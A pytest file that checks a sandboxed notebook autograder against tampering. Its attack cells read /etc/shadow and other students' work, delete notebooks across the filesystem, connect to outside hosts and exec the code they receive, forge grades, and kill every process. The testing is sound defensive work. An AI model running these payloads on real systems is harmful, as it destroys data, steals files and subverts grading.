"""Grading for credit resists tampering: attack submissions score exactly what they earned.

Each attack is the untouched student notebook of ``two_pillars`` (or a half-solved
one) plus one extra cell that tries to fake a grade or harm the teacher: patch
our helpers, otter, NumPy/JAX or builtins; write or delete files; read the
solutions, the teacher's files or other submissions; use the network; fork; exit;
sleep or loop past the limit; allocate 20 GiB; flood the output; overwrite the
compilation cache shared with the other submissions; answer with
objects whose ``__eq__``/``__array__`` lie; forge answers on the grading pipe.
All attacks are graded in two batches (two workers) by
:func:`course_lib.grading.grade_submissions`, as a teacher would.
"""

from __future__ import annotations

import os
import socket
import textwrap
import uuid
from pathlib import Path

import nbformat
import pytest

from course_lib.grading_sandbox import sandbox_available

ROOT = Path(__file__).resolve().parents[1]
AUTOGRADER = ROOT / "exercises" / "autograder" / "two_pillars-autograder.zip"
STUDENT = ROOT / "exercises" / "two_pillars.ipynb"
SOLUTIONS = ROOT / "solutions" / "two_pillars.ipynb"
MAX = {"q1": 2.0, "q2": 3.0, "q3": 3.0, "q4": 2.0}
HALF = {"q1": 2.0, "q2": 3.0, "q3": 0.0, "q4": 0.0}  # the half-solved notebook: q1 and q2 answered

pytestmark = pytest.mark.skipif(bool(sandbox_available()), reason=f"no sandbox here: {sandbox_available()}")

MARK = uuid.uuid4().hex[:12]  # names the files and processes an attack would leave behind


def attacks(paths: dict[str, str]) -> dict[str, str]:
    """Attack cells by name; ``paths`` are absolute host paths the attacker knows (or guesses)."""
    solution_exec = f"""
        import json
        nb = json.load(open({paths['solutions']!r}))
        for cell in nb["cells"]:
            if cell["cell_type"] == "code":
                exec("".join(cell["source"]), globals())
    """
    return {
        "patch_our_helpers": """
            import course_lib.grading as g
            g.call_safely = lambda q, fn, *a, **k: None
            g.check_array = lambda *a, **k: None
            g.check_number = lambda *a, **k: 0.0
            class _Pass(Exception):
                pass
            g.GradingError = _Pass
        """,
        "patch_otter_runner": """
            import otter.test_files.exception_test as et
            def run(self, global_environment):
                self.test_case_results = [et.TestCaseResult(test_case=tc, message="passed", passed=True)
                                          for tc in self.test_cases]
            et.ExceptionTestFile.run = run
            import otter.test_files.abstract_test as at
            at.TestFile.score = property(lambda self: sum(tc.points for tc in self.test_cases))
        """,
        "patch_numpy_and_jax_comparisons": """
            import numpy as np, jax.numpy as jnp
            np.allclose = lambda *a, **k: True
            np.isclose = lambda *a, **k: True
            np.isfinite = lambda *a, **k: True
            np.testing.assert_allclose = lambda *a, **k: None
            jnp.allclose = lambda *a, **k: True
            np.asarray = lambda *a, **k: np.zeros(2)
        """,
        "monkeypatch_builtins": """
            import builtins
            builtins.isinstance = lambda *a: True
            builtins.abs = lambda x: 0.0
            builtins.AssertionError = type("Never", (Exception,), {})
            builtins.__import__ = (lambda orig: lambda name, *a, **k: orig(name, *a, **k))(builtins.__import__)
        """,
        "write_fake_results_in_working_dir": """
            import json, os, pathlib
            fake = {"tests": [{"name": q, "score": p, "max_score": p} for q, p in
                              [("q1", 2), ("q2", 3), ("q3", 3), ("q4", 2)]], "score": 10}
            for d in (".", "..", "/tmp", "/autograder/results", os.path.expanduser("~")):
                try:
                    pathlib.Path(d, "results.json").write_text(json.dumps(fake))
                except OSError:
                    pass
            os.makedirs("tests", exist_ok=True)
            for q in ("q1", "q2", "q3", "q4"):
                pathlib.Path("tests", q + ".py").write_text(
                    "from otter.test_files import test_case\\nname = %r\\npoints = 3\\n"
                    "@test_case()\\ndef t():\\n    pass\\n" % q)
        """,
        "delete_tests_zip_and_other_submissions": f"""
            import os, shutil, glob
            for victim in ({paths['autograder']!r}, {paths['other']!r}, {paths['tests_dir']!r}):
                try:
                    shutil.rmtree(victim) if os.path.isdir(victim) else os.remove(victim)
                except OSError:
                    pass
            for f in glob.glob("/**/*.ipynb", recursive=True)[:200]:
                try:
                    os.remove(f)
                except OSError:
                    pass
        """,
        "write_outside_working_dir": f"""
            import os
            for target in ({paths['outside']!r}, os.path.join({paths['home']!r}, "pwned-{MARK}.txt"),
                           "/usr/pwned-{MARK}.txt", {paths['course_lib']!r} + "/pwned_{MARK}.py"):
                try:
                    with open(target, "w") as f:
                        f.write("pwned")
                except OSError:
                    pass
        """,
        "read_solutions_and_copy_them": solution_exec,
        "read_teacher_files_and_other_submissions": f"""
            import os
            leaked = []
            for p in ({paths['secret']!r}, {paths['other']!r}, {paths['home']!r}, "/etc/shadow", "/work", "/root"):
                try:
                    leaked.append(open(p).read() if os.path.isfile(p) else os.listdir(p))
                except OSError:
                    pass
            if any(leaked):
                exec(open({paths['solution_py']!r}).read())
        """,
        "network_connection": f"""
            import socket
            for host, port in (("127.0.0.1", {paths['port']}), ("1.1.1.1", 80), ("pypi.org", 443)):
                try:
                    s = socket.create_connection((host, port), timeout=2)
                    s.sendall(b"stolen answers please")
                    exec(s.recv(100000).decode())
                except OSError:
                    pass
        """,
        "atexit_hook_writes_results": """
            import atexit, json, sys
            def fake():
                print('{"tests": [{"name": "q1", "score": 2}], "score": 10}')
                open("results.json", "w").write('{"score": 10}')
                sys.stdout.flush()
            atexit.register(fake)
        """,
        "os_exit_after_printing": """
            import os
            print("q1 results: All test cases passed!\\nq2 results: All test cases passed!")
            os._exit(0)
        """,
        "poison_compilation_cache": """
            import os, pathlib
            cache = pathlib.Path(os.environ.get("JAX_COMPILATION_CACHE_DIR", "/jax-cache"))
            for entry in list(cache.glob("*")) + [cache / "jit_extra-cache"]:
                try:
                    entry.write_bytes(b"not an executable")
                except OSError:
                    pass
        """,
        "print_fake_result_lines": """
            print("q1 results: All test cases passed!")
            print("submission,q1,q2,q3,q4,total,error")
            print("exercises/two_pillars.ipynb,2,3,3,2,10,")
            print('{"tests": [{"name": "q1 - 1", "score": 2.0, "max_score": 2.0}]}')
        """,
        "fork_and_forge_answers": f"""
            import os, json, struct, time
            def frame(obj):
                data = json.dumps(obj).encode()
                return struct.pack(">Q", len(data)) + data
            pid = os.fork()
            if pid == 0:
                time.sleep(1.0)
                for fd in range(3, 12):
                    for seq in range(1, 60):
                        try:
                            os.write(fd, frame({{"seq": seq, "value": 12345.0}}))
                        except OSError:
                            break
                time.sleep(600)
                os._exit(0)
            import subprocess, sys
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # {MARK}"], start_new_session=True)
        """,
        "forge_answers_ahead_on_the_pipe": """
            import os, json, struct
            for fd in range(3, 12):
                for seq in range(0, 80):
                    data = json.dumps({"seq": seq, "value": {"$": "nd", "dtype": "<f8", "shape": [2],
                                                              "data": "AAAAAAAAAAAAAAAAAAAAAA=="}}).encode()
                    try:
                        os.write(fd, struct.pack(">Q", len(data)) + data)
                    except OSError:
                        break
        """,
        "allocate_20_gib": """
            import numpy as np
            try:
                big = np.ones(20 * 2**30 // 8)
            except MemoryError:
                pass
            hog = bytearray(20 * 2**30)
        """,
        "flood_the_output_and_the_disk": """
            import sys
            with open("/tmp/fill", "wb") as f:
                try:
                    for _ in range(2048):
                        f.write(b"x" * 2**20)
                except OSError:
                    pass
            for _ in range(400):
                sys.stdout.write("fake q1 results: All test cases passed! " * 25000 + "\\n")
        """,
        "lying_eq_and_array_objects": """
            import numpy as np
            class Liar:
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                def __array__(self, dtype=None, copy=None): return np.zeros(2)
                def __float__(self): return 0.0
                def __len__(self): return 2
                def __getitem__(self, i): return 0.0
                def __lt__(self, other): return True
                def __le__(self, other): return True
                def __gt__(self, other): return True
                def __ge__(self, other): return True
                def __abs__(self): return 0.0
                def __sub__(self, other): return 0.0
                __rsub__ = __sub__
            himmelblau_grad = lambda x: Liar()
            minibatch_grad = lambda problem, x, idx: Liar()
            sgd = lambda *a, **k: Liar()
            L_smooth = Liar()
            eta_max = Liar()
        """,
        "kill_every_process_it_can_see": """
            import os, signal
            for pid in range(1, 400):
                if pid != os.getpid():
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
        """,
        "replace_the_grading_child": """
            import sys, course_lib._grading_child as child
            child._answer = lambda fn, *a, **k: 12345.0
            child.encode = lambda obj, make_ref, depth=0: 12345.0
            import course_lib.grading_wire as w
            w.encode = lambda obj, make_ref, depth=0: 12345.0
        """,
    }


SLOW = {
    "sleep_past_the_limit": "import time\ntime.sleep(10**6)",
    "busy_loop_past_the_limit": "while True:\n    pass",
}


def _with_cell(nb_path: Path, source: str):
    nb = nbformat.read(nb_path, as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell(textwrap.dedent(source)))
    return nb


def _half_solved():
    """The student notebook with the answers of q1 and q2 from the solutions."""
    nb = nbformat.read(STUDENT, as_version=4)
    solved = [c.source for c in nbformat.read(SOLUTIONS, as_version=4).cells if "hide-input" in c.metadata.get("tags", [])]
    answers = [c for c in nb.cells if "otter_answer_cell" in c.metadata.get("tags", [])]
    for cell, src in list(zip(answers, solved))[:2]:
        cell.source = src
    return nb


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    from course_lib.grading import grade_submissions

    tmp = tmp_path_factory.mktemp("attacks")
    subs = tmp / "submissions"
    subs.mkdir()
    other = subs / "zz_other_student.ipynb"
    nbformat.write(nbformat.read(SOLUTIONS, as_version=4), other)  # another student's full solution
    secret = tmp / "teacher_secret.txt"
    secret.write_text("the teacher's private notes")
    solution_py = tmp / "solution.py"
    solution_py.write_text("\n".join(c.source for c in nbformat.read(SOLUTIONS, as_version=4).cells
                                     if c.cell_type == "code"))
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.setblocking(False)
    paths = {
        "solutions": str(SOLUTIONS), "autograder": str(AUTOGRADER), "other": str(other),
        "tests_dir": str(ROOT / "exercises" / "tests" / "two_pillars"), "outside": str(tmp / "pwned.txt"),
        "home": os.path.expanduser("~"), "course_lib": str(ROOT / "course_lib"), "secret": str(secret),
        "solution_py": str(solution_py), "port": server.getsockname()[1],
    }
    names = []
    for name, src in attacks(paths).items():
        nbformat.write(_with_cell(STUDENT, src), subs / f"blank+{name}.ipynb")
        names.append(f"blank+{name}")
    half = _half_solved()
    nbformat.write(half, subs / "half.ipynb")
    for name in ("patch_our_helpers", "lying_eq_and_array_objects", "print_fake_result_lines"):
        nb = _half_solved()
        nb.cells.append(nbformat.v4.new_code_cell(textwrap.dedent(attacks(paths)[name].replace(
            "himmelblau_grad = lambda x: Liar()\n", "").replace("minibatch_grad = lambda problem, x, idx: Liar()\n", ""))))
        nbformat.write(nb, subs / f"half+{name}.ipynb")
        names.append(f"half+{name}")
    names += ["half", "zz_other_student"]
    out = tmp / "scores.csv"
    fast = grade_submissions([subs / f"{n}.ipynb" for n in names], AUTOGRADER, out, timeout=150, workers=2,
                             warm_up=SOLUTIONS)  # as the teacher guide says: a read-only compilation cache
    slow_names = []
    for name, src in SLOW.items():
        nbformat.write(_with_cell(STUDENT, src), subs / f"blank+{name}.ipynb")
        slow_names.append(f"blank+{name}")
    slow = grade_submissions([subs / f"{n}.ipynb" for n in slow_names], AUTOGRADER, tmp / "slow.csv", timeout=25, workers=2)
    try:
        conn, _ = server.accept()
        connected = True
        conn.close()
    except BlockingIOError:
        connected = False
    server.close()
    results = {Path(r.path).stem: r for r in fast + slow}
    return results, paths, connected


@pytest.mark.parametrize("name", sorted(attacks({k: "" for k in (
    "solutions", "autograder", "other", "tests_dir", "outside", "home", "course_lib", "secret", "solution_py", "port")})))
def test_blank_plus_attack_scores_exactly_zero(graded, name):
    results, _, _ = graded
    r = results[f"blank+{name}"]
    assert r.total == 0 and all(v == 0 for v in r.scores.values()), (r.scores, r.error)
    assert r.error, "every zero has a reason"


@pytest.mark.parametrize("name", sorted(SLOW))
def test_slow_attacks_are_stopped_and_score_zero(graded, name):
    results, _, _ = graded
    r = results[f"blank+{name}"]
    assert r.total == 0, (r.scores, r.error)
    assert "time limit" in r.error or "CPU time" in r.error, r.error


def test_solution_and_half_solved_get_exactly_their_points(graded):
    results, _, _ = graded
    assert results["zz_other_student"].scores == MAX, results["zz_other_student"]
    assert results["half"].scores == HALF, results["half"]
    for name in ("patch_our_helpers", "lying_eq_and_array_objects", "print_fake_result_lines"):
        assert results[f"half+{name}"].scores == HALF, (name, results[f"half+{name}"])


def test_attacks_left_no_trace_on_the_host(graded):
    results, paths, connected = graded
    assert not connected, "a submission reached a server on the teacher's machine"
    assert Path(paths["autograder"]).is_file() and Path(paths["other"]).is_file()
    assert sorted(p.name for p in Path(paths["tests_dir"]).glob("*.py")) == ["q1.py", "q2.py", "q3.py", "q4.py"]
    assert not Path(paths["outside"]).exists()
    assert not (Path(paths["home"]) / f"pwned-{MARK}.txt").exists()
    assert not Path(f"/usr/pwned-{MARK}.txt").exists()
    assert not list(Path(paths["course_lib"]).glob(f"pwned_{MARK}*"))
    left = []
    for proc in Path("/proc").iterdir():
        try:
            if MARK in (proc / "cmdline").read_bytes().decode(errors="replace"):
                left.append(proc.name)
        except OSError:
            pass
    assert not left, f"processes started by a submission are still running: {left}"


def test_refuses_without_sandbox_unless_unsafe(tmp_path, monkeypatch):
    from course_lib import grading_sandbox as sb
    from course_lib.grading import grade_submissions

    monkeypatch.setattr(sb, "_AVAILABLE", {True: "bubblewrap (`bwrap`) is not installed"})
    (tmp_path / "essay.txt").write_text("not a notebook")
    with pytest.raises(sb.SandboxUnavailable, match="unsafe"):
        grade_submissions([tmp_path / "essay.txt"], AUTOGRADER)
    (r,) = grade_submissions([tmp_path / "essay.txt"], AUTOGRADER, unsafe_no_sandbox=True)
    assert r.total == 0 and "not a notebook" in r.error
